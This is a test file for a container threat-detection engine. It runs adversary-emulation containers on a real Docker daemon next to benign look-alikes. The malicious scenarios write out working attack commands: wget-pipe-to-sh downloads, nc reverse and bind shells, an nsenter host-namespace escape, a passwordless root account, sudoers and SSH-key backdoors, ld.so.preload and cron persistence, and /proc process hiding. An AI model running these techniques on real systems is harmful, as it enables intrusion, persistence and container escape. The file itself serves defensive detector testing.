import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runDetectors, type DetectionResult } from '../../electron/engine/detect/run-detectors.js';
import { severityRank, type Finding } from '@shared/domain/finding.js';
import { SuppressionSchema } from '@shared/domain/suppression.js';
import type { EngineEvidence } from '@shared/domain/evidence-set.js';
import { docker, removeSuite, WEB } from '../helpers/docker.js';
import {
  addSocketSnapshots,
  collect,
  createNetwork,
  execIn,
  ipOf,
  removeNetworks,
  script,
  sleep,
  start,
  startAll,
} from './harness.js';

/**
 * Adversary emulation for every Docker-side detector, run once against the real dockerd: each malicious
 * container reproduces a technique from the ADS reports, each benign container a look-alike from their
 * false-positive lists (CI builds, dev churn, legitimate spikes, authorized services). Traffic stays on
 * loopback, `--network none`, or an internal network the suite creates.
 */
const SUITE = 'detect-scenarios';
const ATTRS = 'stowaway-test/attrs:1';
const CI = { 'ci.role': 'runner' };
/** The baseline a site would keep for its CI runners: visible, versioned, and reported when it applies. */
const CI_BASELINE = SuppressionSchema.parse({
  id: 'ci-runners',
  version: 1,
  reason: 'CI jobs run short-lived build containers',
  detectors: ['short-lived-container', 'dropped-executable', 'hidden-files'],
  match: { label: 'ci.role=runner' },
  owner: 'platform',
});

const c: Record<string, Docker.Container> = {};
let committedImage = '';
let result: DetectionResult;
let evidence: EngineEvidence;

const idOf = (key: string) => c[key]!.id;
const findingsFor = (key: string): Finding[] =>
  [...result.findings, ...result.suppressed].filter((f) => f.container?.id === idOf(key));
const shortLived: Record<string, string> = {};

beforeAll(async () => {
  await removeSuite(SUITE);
  await removeNetworks(SUITE);
  const since = new Date(Date.now() - 1000);
  const net = await createNetwork(SUITE);
  const netName = (await net.inspect()).Name as string;
  const onNet = { NetworkMode: netName };
  const tmp = mkdtempSync(path.join(os.tmpdir(), 'stowaway-scn-'));

  // Configuration: created only (state evidence is enough, and --privileged cannot start here).
  const created = {
    privileged: start({ suite: SUITE, hostConfig: { Privileged: true }, start: false }),
    dockerSock: start({
      suite: SUITE,
      hostConfig: { Binds: ['/var/run/docker.sock:/var/run/docker.sock'] },
      start: false,
    }),
    hostRoot: start({ suite: SUITE, hostConfig: { Binds: ['/:/host:ro'] }, start: false }),
    escapeCmd: start({
      suite: SUITE,
      cmd: ['sh', '-c', 'nsenter -t 1 -m -u -i -n -p -- sh'],
      hostConfig: { PidMode: 'host' },
      start: false,
    }),
    benignDataMount: start({ suite: SUITE, hostConfig: { Binds: [`${tmp}:/data`] }, start: false }),
  };
  const running = {
    hostPid: start({ suite: SUITE, hostConfig: { PidMode: 'host' } }),
    sysAdmin: start({ suite: SUITE, hostConfig: { CapAdd: ['SYS_ADMIN', 'SYS_PTRACE'] } }),
    benignCaps: start({
      suite: SUITE,
      hostConfig: { CapDrop: ['ALL'], CapAdd: ['NET_BIND_SERVICE'], SecurityOpt: ['no-new-privileges:true'] },
    }),
    seccomp: start({ suite: SUITE, hostConfig: { SecurityOpt: ['seccomp=unconfined'] } }),
    downloadCmd: start({
      suite: SUITE,
      cmd: ['sh', '-c', 'wget -q -T 1 -O- http://127.0.0.1:9/stage2 | sh; exec sleep 3600'],
    }),
    benignShellCmd: start({ suite: SUITE, image: WEB, cmd: ['sh', '-c', 'echo starting web; exec httpd -f -p 8080'] }),
    noLogs: start({ suite: SUITE, hostConfig: { LogConfig: { Type: 'none', Config: {} } } }),
    benignLogs: start({
      suite: SUITE,
      hostConfig: { LogConfig: { Type: 'json-file', Config: { 'max-size': '10m', 'max-file': '3' } } },
    }),
    // Files: hiding, locking and tampering.
    hider: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p "/tmp/.x" /usr/lib/.hid "/var/tmp/. "; cp /bin/busybox /tmp/.x/busybox; echo cfg > /usr/lib/.hid/cfg; echo 1 > "/var/tmp/. /n"',
      ),
    }),
    // /dev/shm and /dev are tmpfs: what is dropped there is in no layer and in no diff.
    shmDropper: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /dev/shm/.x; cp /bin/busybox /dev/shm/.x/kworker; echo cfg > /dev/.udev-cfg; ln -s / /dev/shm/rootlink',
      ),
    }),
    // Shared memory as browsers and databases use it: random-suffixed dot-names and plain segments.
    benignShm: start({
      suite: SUITE,
      ready: true,
      cmd: script('echo seg > /dev/shm/.org.chromium.Chromium.a1B2c3; echo seg > /dev/shm/PostgreSQL.1804289383'),
    }),
    benignCiCache: start({
      suite: SUITE,
      labels: CI,
      ready: true,
      cmd: script(
        'mkdir -p /tmp/.cache/pip /root; echo wheel > /tmp/.cache/pip/w; echo ls > /root/.ash_history; mkdir -p /build/.tmp; echo o > /build/.tmp/o',
      ),
    }),
    locker: start({
      suite: SUITE,
      image: ATTRS,
      hostConfig: { CapAdd: ['LINUX_IMMUTABLE'] },
      ready: true,
      cmd: script(
        'mkdir -p /etc/cron.d; echo "* * * * * root /tmp/.x/run" > /etc/cron.d/keep; chattr +i /etc/cron.d/keep; echo log > /var/log.txt; chattr +a /var/log.txt',
      ),
    }),
    benignAttrs: start({
      suite: SUITE,
      image: ATTRS,
      labels: CI,
      ready: true,
      cmd: script(
        'mkdir -p /build; echo "#!/bin/sh" > /build/run.sh; chmod 755 /build/run.sh; touch -d 2020-01-01 /build/run.sh; chattr +A /build/run.sh 2>/dev/null; true',
      ),
    }),
    accounts: start({
      suite: SUITE,
      ready: true,
      cmd: script('echo "toor:x:0:0::/root:/bin/sh" >> /etc/passwd; echo "toor::19000:0:99999:7:::" >> /etc/shadow'),
    }),
    benignUser: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'echo "app:x:1000:1000::/home/app:/bin/sh" >> /etc/passwd; echo "app:!:19000:0:99999:7:::" >> /etc/shadow',
      ),
    }),
    sudoer: start({
      suite: SUITE,
      ready: true,
      cmd: script('mkdir -p /etc/sudoers.d; echo "nobody ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/nobody'),
    }),
    benignSudo: start({
      suite: SUITE,
      ready: true,
      cmd: script('mkdir -p /etc/sudoers.d; echo "%admin ALL=(ALL) ALL" > /etc/sudoers.d/admin'),
    }),
    cron: start({
      suite: SUITE,
      ready: true,
      cmd: script('echo "*/5 * * * * wget -q -O- http://127.0.0.1:9/m.sh | sh" > /var/spool/cron/crontabs/root'),
    }),
    benignCron: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /etc/cron.d; echo "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf" > /etc/cron.d/logrotate',
      ),
    }),
    keys: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /root/.ssh; echo "command=\\"nc 127.0.0.1 9 -e /bin/sh\\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKf0bGq1h3kVb4Vb8cCw0Wq5oX9YkN4g0gq2tM3sL0aB attacker@c2" > /root/.ssh/authorized_keys',
      ),
    }),
    benignKnownHosts: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /root/.ssh; echo "git.example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKf0bGq1h3kVb4Vb8cCw0Wq5oX9YkN4g0gq2tM3sL0aB" > /root/.ssh/known_hosts',
      ),
    }),
    preload: start({
      suite: SUITE,
      ready: true,
      cmd: script('mkdir -p /tmp/.lib; echo x > /tmp/.lib/libhide.so; echo /tmp/.lib/libhide.so > /etc/ld.so.preload'),
    }),
    benignLibPath: start({
      suite: SUITE,
      env: ['LD_LIBRARY_PATH=/opt/lib'],
      ready: true,
      cmd: script('mkdir -p /opt/lib; echo x > /opt/lib/libapp.so'),
    }),
    stomper: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /etc/cron.d; echo "@reboot root /bin/true" > /etc/cron.d/sync; touch -d "2019-03-01 00:00:00" /etc/cron.d/sync',
      ),
    }),
    benignConfig: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /etc/app; echo "port=8080" > /etc/app/app.conf; echo "@reboot root /bin/true" > /etc/crontab',
      ),
    }),
    // Links: a silenced history, a cron file that now lives in a hidden directory, a shortcut to shadow.
    linker: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /root /etc/cron.d /tmp/.x /var/tmp; ln -sf /dev/null /root/.ash_history; echo "* * * * * root /tmp/.x/run" > /tmp/.x/job; ln -sf /tmp/.x/job /etc/cron.d/job; ln -s /etc/shadow /var/tmp/s',
      ),
    }),
    // Logs to the engine, a time zone, a config link: what images and entrypoints do every day.
    benignLinks: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /var/log/app /opt/app; ln -sf /dev/stdout /var/log/app/access.log; ln -sf /dev/stderr /var/log/app/error.log; echo x > /opt/app/app.conf; ln -sf /opt/app/app.conf /etc/app.conf',
      ),
    }),
    rc: start({
      suite: SUITE,
      ready: true,
      cmd: script('echo "wget -q -O- http://127.0.0.1:9/rc | sh" >> /etc/profile'),
    }),
    benignRc: start({ suite: SUITE, ready: true, cmd: script('echo "alias ll=\'ls -l\'" >> /etc/profile') }),
    // Processes.
    dropper: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /usr/local/bin; cp /bin/busybox /usr/local/bin/busybox; /usr/local/bin/busybox sleep 3600 &',
      ),
    }),
    benignBuild: start({
      suite: SUITE,
      labels: CI,
      ready: true,
      cmd: script('mkdir -p /build/out; cp /bin/busybox /build/out/busybox; /build/out/busybox true'),
    }),
    // /dev/shm is mounted noexec by the engine, so the dropper uses /var/tmp.
    deletedExe: start({
      suite: SUITE,
      ready: true,
      cmd: script(
        'mkdir -p /var/tmp/.w; cp /bin/busybox /var/tmp/.w/busybox; /var/tmp/.w/busybox sleep 3600 & sleep 0.3; rm /var/tmp/.w/busybox',
      ),
    }),
    masquerade: start({
      suite: SUITE,
      ready: true,
      cmd: script('echo -n "kworker/0:1" > /proc/self/comm', 'while :; do sleep 5; done'),
    }),
    benignWeb: start({ suite: SUITE, image: WEB }),
    // Escape that keeps the container as cover: with the host's PIDs, CAP_SYS_ADMIN and CAP_SYS_PTRACE, enter the mount
    // namespace of a host process (this test's own: it runs in the host's namespaces).
    nsEscaper: start({
      suite: SUITE,
      hostConfig: { PidMode: 'host', CapAdd: ['SYS_ADMIN', 'SYS_PTRACE'], SecurityOpt: ['seccomp=unconfined'] },
      ready: true,
      cmd: script(
        `nsenter -t ${process.pid} -m -- sleep 3603 & p=$!; while [ "$(readlink /proc/$p/ns/mnt)" = "$(readlink /proc/self/ns/mnt)" ]; do kill -0 $p || exit 1; sleep 0.1; done`,
      ),
    }),
    // A sandbox making its own mount namespace in a --pid host container: a namespace of its own, not the host's.
    benignUnshare: start({
      suite: SUITE,
      hostConfig: { PidMode: 'host', CapAdd: ['SYS_ADMIN'], SecurityOpt: ['seccomp=unconfined'] },
      ready: true,
      cmd: script(
        'unshare -m -- sleep 3604 & p=$!; while [ "$(readlink /proc/$p/ns/mnt)" = "$(readlink /proc/self/ns/mnt)" ]; do sleep 0.1; done',
      ),
    }),
    procHider: start({
      suite: SUITE,
      hostConfig: { CapAdd: ['SYS_ADMIN'] },
      ready: true,
      cmd: script('sleep 3600 & p=$!; mkdir -p /tmp/e; mount --bind /tmp/e /proc/$p'),
    }),
    // C2 on loopback inside one network namespace.
    revShell: start({
      suite: SUITE,
      ready: true,
      cmd: script('sleep 3600 | nc -l -p 4444 >/dev/null & sleep 0.3; nc 127.0.0.1 4444 -e /bin/sh & sleep 0.3'),
    }),
    bindShell: start({ suite: SUITE, ready: true, cmd: script('nc -ll -p 4445 -e /bin/sh &') }),
    benignLoopbackListener: start({ suite: SUITE, ready: true, cmd: script('httpd -p 127.0.0.1:9000 -h /tmp') }),
    // C2 between containers of an internal network.
    server: start({
      suite: SUITE,
      hostConfig: onNet,
      ready: true,
      cmd: script(
        '(while true; do nc -l -p 4444 </dev/null >/dev/null; done) & (sleep 3600 | nc -l -p 5555 >/dev/null) & (sleep 3600 | nc -l -p 6666 >/dev/null) &',
      ),
    }),
    webOnNet: start({ suite: SUITE, image: WEB, hostConfig: onNet }),
    // A container started on the runtime under a kubelet-style name, invisible to the cluster API.
    shadow: start({
      suite: SUITE,
      name: `k8s_kube-proxy_kube-proxy-${Math.random().toString(36).slice(2, 7)}_kube-system_0a1b2c_0`,
    }),
  };
  Object.assign(
    c,
    Object.fromEntries(
      await Promise.all(Object.entries({ ...created, ...running }).map(async ([k, p]) => [k, await p])),
    ),
  );
  // Addresses, not names: a name lookup could be forwarded by the engine's resolver off the host.
  const serverIp = await ipOf(c.server!);
  const webIp = await ipOf(c.webOnNet!);
  const clients = {
    c2client: start({ suite: SUITE, hostConfig: onNet, cmd: ['sh', '-c', `sleep 3600 | nc ${serverIp} 5555`] }),
    beacon: start({
      suite: SUITE,
      hostConfig: onNet,
      cmd: ['sh', '-c', `while true; do nc -w 1 ${serverIp} 4444 </dev/null; sleep 0.5; done`],
    }),
    poller: start({
      suite: SUITE,
      hostConfig: onNet,
      cmd: ['sh', '-c', `while true; do wget -q -O /dev/null http://${webIp}:8080/ 2>/dev/null; sleep 1; done`],
    }),
    hostNet: start({
      suite: SUITE,
      hostConfig: { NetworkMode: 'host' },
      cmd: ['sh', '-c', `sleep 3600 | nc ${serverIp} 6666`],
    }),
    execTarget: start({ suite: SUITE }),
    benignExecTarget: start({ suite: SUITE }),
  };
  Object.assign(c, await startAll(clients));

  // Runtime image modification: commit a changed container into a new image and run it.
  const img = await c.hider!.commit({ repo: `stowaway-scenario/${SUITE}`, tag: 'implant' });
  committedImage = img.Id as string;
  c.fromCommit = await start({ suite: SUITE, image: `stowaway-scenario/${SUITE}:implant` });

  // Exec sessions: an interactive shell and a download-and-run, against a routine read.
  await execIn(c.execTarget!, ['sh', '-c', 'wget -q -T 1 -O- http://127.0.0.1:9/x | sh'], {});
  await execIn(c.execTarget!, ['sh', '-c', 'true'], { tty: true });
  await execIn(c.benignExecTarget!, ['cat', '/etc/hostname']);

  // Hit-and-run: `docker run --rm` that exits at once; and the same shape from a CI runner.
  for (const [key, labels] of [
    ['hitAndRun', {}],
    ['ciJob', CI],
  ] as const) {
    const r = await start({ suite: SUITE, labels, cmd: ['true'], hostConfig: { AutoRemove: true } });
    shortLived[key] = r.id;
    await r.wait().catch(() => undefined);
  }
  for (
    let i = 0;
    i < 50 && (await docker.listContainers({ all: true, filters: { id: Object.values(shortLived) } })).length > 0;
    i++
  )
    await sleep(100);
  await sleep(1100);

  const ids = Object.values(c).map((x) => x.id);
  evidence = await collect(ids, since);
  // Polling slower than the beacon: every interval sees new connections at a steady rate.
  await Promise.all([
    addSocketSnapshots(evidence, idOf('beacon'), 5, 2500),
    addSocketSnapshots(evidence, idOf('poller'), 5, 2500),
  ]);
  result = runDetectors(evidence, { suppressions: [CI_BASELINE] });
}, 240_000);

afterAll(async () => {
  // Immutable and append-only files would make the container's layer impossible to delete.
  if (c.locker)
    await execIn(c.locker, ['chattr', '-i', '-a', '/etc/cron.d/keep', '/var/log.txt']).catch(() => undefined);
  await removeSuite(SUITE);
  if (committedImage)
    await docker
      .getImage(committedImage)
      .remove({ force: true })
      .catch(() => undefined);
  await removeNetworks(SUITE);
});

/** detector → containers that must trigger it, and look-alikes that must stay below medium. */
const SCENARIOS: Array<{ detector: string; malicious: string[]; benign: string[] }> = [
  { detector: 'privileged-container', malicious: ['privileged'], benign: ['benignCaps'] },
  { detector: 'host-namespaces', malicious: ['hostPid', 'hostNet'], benign: ['benignCaps'] },
  { detector: 'dangerous-capabilities', malicious: ['sysAdmin'], benign: ['benignCaps'] },
  { detector: 'sensitive-host-mount', malicious: ['dockerSock', 'hostRoot'], benign: ['benignDataMount'] },
  { detector: 'security-profile-disabled', malicious: ['seccomp'], benign: ['benignCaps'] },
  { detector: 'command-override', malicious: ['downloadCmd', 'escapeCmd'], benign: ['benignShellCmd'] },
  { detector: 'logging-disabled', malicious: ['noLogs'], benign: ['benignLogs'] },
  { detector: 'hidden-files', malicious: ['hider', 'shmDropper'], benign: ['benignCiCache', 'benignShm'] },
  { detector: 'immutable-files', malicious: ['locker'], benign: ['benignAttrs'] },
  { detector: 'sensitive-links', malicious: ['linker'], benign: ['benignLinks'] },
  { detector: 'account-tampering', malicious: ['accounts'], benign: ['benignUser'] },
  { detector: 'sudoers-nopasswd', malicious: ['sudoer'], benign: ['benignSudo'] },
  { detector: 'cron-persistence', malicious: ['cron'], benign: ['benignCron'] },
  { detector: 'ssh-authorized-keys', malicious: ['keys'], benign: ['benignKnownHosts'] },
  { detector: 'ld-preload', malicious: ['preload'], benign: ['benignLibPath'] },
  { detector: 'shell-rc-tampering', malicious: ['rc'], benign: ['benignRc'] },
  { detector: 'dropped-executable', malicious: ['dropper', 'shmDropper'], benign: ['benignBuild'] },
  { detector: 'suspicious-exe-location', malicious: ['deletedExe'], benign: ['benignWeb', 'benignBuild'] },
  { detector: 'process-masquerading', malicious: ['masquerade'], benign: ['benignWeb'] },
  { detector: 'hidden-processes', malicious: ['procHider'], benign: ['benignWeb'] },
  { detector: 'proc-bind-mount', malicious: ['procHider'], benign: ['benignWeb'] },
  // benignUnshare needs capabilities other detectors rightly flag; its namespace-escape silence is checked below.
  { detector: 'namespace-escape', malicious: ['nsEscaper'], benign: ['benignWeb'] },
  { detector: 'image-tampering', malicious: ['hider', 'fromCommit'], benign: ['benignWeb'] },
  { detector: 'reverse-shell', malicious: ['revShell', 'bindShell'], benign: ['benignWeb', 'benignLoopbackListener'] },
  {
    detector: 'unexpected-listener',
    malicious: ['bindShell'],
    benign: ['benignWeb', 'webOnNet', 'benignLoopbackListener'],
  },
  { detector: 'outbound-nonstandard-port', malicious: ['c2client'], benign: ['poller'] },
  { detector: 'inter-container-connection', malicious: ['hostNet'], benign: ['poller'] },
  // Beacons themselves, at several cadences and payloads, are judged in beaconing.scenario.test.ts; here only the
  // poller's silence is, since this file's half-second beacon is too irregular on a loaded machine to call either way.
  { detector: 'beaconing', malicious: [], benign: ['poller'] },
  { detector: 'exec-into-container', malicious: ['execTarget'], benign: ['benignExecTarget'] },
  { detector: 'timestomp', malicious: ['stomper'], benign: ['benignConfig', 'benignAttrs'] },
  { detector: 'shadow-container', malicious: ['shadow'], benign: ['benignWeb'] },
];

describe('adversary emulation scenarios (real dockerd)', () => {
  it('collected the scenario containers without detector failures', () => {
    expect(result.failures).toEqual([]);
    expect(evidence.containers.length).toBe(Object.keys(c).length);
  });

  for (const s of SCENARIOS) {
    it(`${s.detector}: fires on ${s.malicious.join(', ')}; nothing >= medium on ${s.benign.join(', ')}`, () => {
      for (const key of s.malicious) {
        const hits = findingsFor(key).filter((f) => f.detector === s.detector);
        expect(
          hits,
          `${s.detector} on ${key}: ${JSON.stringify(findingsFor(key).map((f) => [f.detector, f.severity, f.summary]))}`,
        ).not.toEqual([]);
        expect(hits.every((f) => f.evidence.length > 0 && f.summary.length > 0 && f.attack.length > 0)).toBe(true);
      }
      for (const key of s.benign) {
        const loud = findingsFor(key).filter(
          (f) => severityRank(f.severity) >= severityRank('medium') && !f.suppressedBy,
        );
        expect(
          loud.map((f) => `${f.detector}: ${f.summary}`),
          `benign ${key}`,
        ).toEqual([]);
      }
    });
  }

  it('short-lived-container: a --rm container that lived seconds is found from events; the CI one is suppressed by the baseline', () => {
    const hit = result.findings.find(
      (f) => f.detector === 'short-lived-container' && f.container?.id === shortLived.hitAndRun,
    );
    expect(hit?.severity).toBe('medium');
    const ci = result.suppressed.find(
      (f) => f.detector === 'short-lived-container' && f.container?.id === shortLived.ciJob,
    );
    expect(ci?.suppressedBy).toBe('ci-runners@v1');
    expect(result.findings.some((f) => f.container?.id === shortLived.ciJob)).toBe(false);
  });

  it('evidence references carry the sha256 of the exact artifact they point at', () => {
    const priv = findingsFor('privileged').find((f) => f.detector === 'privileged-container')!;
    const inspect = evidence.containers
      .find((x) => x.container.id === idOf('privileged'))!
      .artifacts.find((a) => a.kind === 'inspect')!;
    expect(priv.evidence[0]!.sha256).toBe(inspect.sha256);
    const sudo = findingsFor('sudoer').find((f) => f.detector === 'sudoers-nopasswd')!;
    const file = evidence.containers
      .find((x) => x.container.id === idOf('sudoer'))!
      .fileContents.find((f) => f.path === '/etc/sudoers.d/nobody')!;
    expect(sudo.evidence[0]).toMatchObject({ kind: 'file', ref: '/etc/sudoers.d/nobody', sha256: file.sha256 });
  });

  it('sees what was dropped in tmpfs /dev/shm and /dev, which no diff holds, and names it as such', () => {
    const ev = evidence.containers.find((x) => x.container.id === idOf('shmDropper'))!;
    expect(ev.files.some((f) => f.path.startsWith('/dev/'))).toBe(false);
    const kworker = ev.tmpfsFiles.find((f) => f.path === '/dev/shm/.x/kworker');
    expect(kworker?.flags).toEqual(expect.arrayContaining(['elf', 'executable']));
    expect(kworker?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(ev.tmpfsFiles.map((f) => f.path)).toContain('/dev/.udev-cfg');
    // Device nodes and the runtime's own links are not listed.
    expect(ev.tmpfsFiles.map((f) => f.path)).not.toEqual(expect.arrayContaining(['/dev/null']));
    expect(ev.tmpfsFiles.some((f) => ['/dev/null', '/dev/stdout', '/dev/pts', '/dev/shm'].includes(f.path))).toBe(
      false,
    );
    // A planted link to / is not followed (through /proc/PID/root it would lead to the host's root).
    expect(ev.tmpfsFiles.some((f) => f.path.startsWith('/dev/shm/rootlink'))).toBe(false);
    const dropped = findingsFor('shmDropper').find(
      (f) => f.detector === 'dropped-executable' && f.evidence[0]!.ref === '/dev/shm/.x/kworker',
    );
    expect(dropped?.evidence[0]!.excerpt).toContain('in tmpfs (in no layer)');
    expect(dropped?.evidence[0]!.sha256).toBe(kworker?.sha256);
    const hidden = findingsFor('shmDropper')
      .filter((f) => f.detector === 'hidden-files')
      .map((f) => f.evidence[0]!.ref);
    expect(hidden).toEqual(expect.arrayContaining(['/dev/shm/.x/kworker', '/dev/.udev-cfg']));
    // The benign look-alike was listed too, and passed on its name.
    const shm = evidence.containers.find((x) => x.container.id === idOf('benignShm'))!.tmpfsFiles.map((f) => f.path);
    expect(shm).toEqual(
      expect.arrayContaining(['/dev/shm/.org.chromium.Chromium.a1B2c3', '/dev/shm/PostgreSQL.1804289383']),
    );
    expect(findingsFor('benignShm').filter((f) => f.detector === 'hidden-files')).toEqual([]);
  });

  it('namespace-escape names the process that entered the host mount namespace, with both namespace ids', () => {
    const hits = findingsFor('nsEscaper').filter((f) => f.detector === 'namespace-escape');
    expect(hits.map((f) => f.severity)).toEqual(['critical']);
    expect(hits[0]!.summary).toContain('sleep 3603');
    expect(hits[0]!.evidence[0]!.excerpt).toMatch(/mnt mnt:\[\d+\] = host mnt:\[\d+\]/);
    // The benign sandbox process really is in a namespace of its own, just not the host's.
    const snap = evidence.containers.find((x) => x.container.id === idOf('benignUnshare'))!.processes.host!;
    const sandboxed = snap.processes.find((p) => p.cmdline.includes('sleep 3604'))!;
    const init = snap.processes.find(
      (p) => p.pid === evidence.containers.find((x) => x.container.id === idOf('benignUnshare'))!.container.hostPid,
    )!;
    expect(sandboxed.ns?.mnt).toBeDefined();
    expect(sandboxed.ns?.mnt).not.toBe(init.ns?.mnt);
    expect(sandboxed.ns?.mnt).not.toBe(snap.hostNs?.mnt);
    expect(findingsFor('benignUnshare').filter((f) => f.detector === 'namespace-escape')).toEqual([]);
  });

  it('sensitive-links reads each link target without following it and names all three', () => {
    const hits = findingsFor('linker').filter((f) => f.detector === 'sensitive-links');
    const byRef = Object.fromEntries(hits.map((f) => [f.evidence[0]!.ref, [f.severity, f.attack.join(',')]]));
    expect(byRef).toEqual({
      '/root/.ash_history': ['medium', 'T1070.003'],
      '/etc/cron.d/job': ['high', 'T1053.003'],
      '/var/tmp/s': ['medium', 'T1552.001'],
    });
    const link = evidence.containers
      .find((x) => x.container.id === idOf('linker'))!
      .files.find((f) => f.path === '/etc/cron.d/job');
    expect(link?.linkTarget).toBe('/tmp/.x/job');
    expect(findingsFor('benignLinks').filter((f) => f.detector === 'sensitive-links')).toEqual([]);
  });

  it('immutable-files names both locked files with their flags', () => {
    const refs = findingsFor('locker')
      .filter((f) => f.detector === 'immutable-files')
      .map((f) => f.evidence[0]!.ref)
      .sort();
    expect(refs).toEqual(['/etc/cron.d/keep', '/var/log.txt']);
  });

  it('unauthorized-deployment judges containers against an image allowlist', () => {
    const r = runDetectors(evidence, {
      policy: { allowedImages: ['stowaway-test/web:*'] },
      only: ['unauthorized-deployment'],
    });
    const flagged = new Set(r.findings.map((f) => f.container?.id));
    expect(flagged.has(idOf('sysAdmin'))).toBe(true);
    expect(flagged.has(idOf('benignWeb'))).toBe(false);
    expect(flagged.has(idOf('webOnNet'))).toBe(false);
  });

  it('finding ids are stable across a second collection of the same containers', async () => {
    const again = runDetectors(
      await collect([idOf('privileged'), idOf('accounts'), idOf('revShell')], new Date(Date.now() - 1000)),
      { only: ['privileged-container', 'account-tampering', 'reverse-shell'] },
    );
    const first = new Set(result.findings.map((f) => f.id));
    expect(again.findings.length).toBeGreaterThan(0);
    for (const f of again.findings) expect(first.has(f.id), `${f.detector} ${f.summary}`).toBe(true);
  });
});
